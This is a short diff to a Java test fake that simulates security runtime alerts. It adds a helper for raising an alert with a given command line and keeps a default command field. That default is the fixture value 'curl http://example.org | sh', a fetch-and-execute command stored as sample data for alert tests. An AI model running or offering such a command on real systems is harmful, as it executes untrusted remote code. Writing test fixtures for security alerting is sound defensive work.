@@ -42,8 +42,13 @@ final class FakeAlerts implements AlertHistory {
     raise(Priority.NOTICE, rule, "in a pod", fields);
   }
 
+  /** An alert of a command line. */
+  void raiseWithCommand(String rule, String command) {
+    raise(Priority.NOTICE, rule, "with a command line", new TreeMap<>(Map.of("proc.cmdline", command)));
+  }
+
   private void raise(Priority priority, String rule, String message, TreeMap<String, @Nullable Object> fields, String... tags) {
-    fields.put("proc.cmdline", "bash -c 'curl http://example.org | sh'");
+    fields.putIfAbsent("proc.cmdline", "bash -c 'curl http://example.org | sh'");
     fields.put("proc.pid", 4_711L);
     fields.put("container.id", null);
     long now = Instant.now().toEpochMilli() * 1_000_000;
